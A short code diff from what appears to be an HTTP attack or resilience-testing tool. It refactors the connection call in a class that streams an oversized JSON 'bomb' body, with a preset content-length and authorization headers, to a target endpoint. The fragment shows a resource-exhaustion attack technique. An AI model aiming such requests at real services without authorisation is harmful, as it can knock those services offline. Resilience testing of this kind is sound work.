@@ -24,7 +24,7 @@ class KeylessBodies(Attack):
         opening, closing = b'{"items":[', b"1]}"
         length = len(opening) + pieces * len(piece) + len(closing)
         fields = [("content-type", "application/json"), ("content-length", str(length)), ("idempotency-key", "bomb")]
-        async with connected(self.target.host, self.target.port) as wire:
+        async with connected(self.target) as wire:
             await wire.send(head(self.target, "POST", PATH, [*fields, *self.authorization()]) + opening)
             for _ in range(pieces):
                 await wire.send(piece)
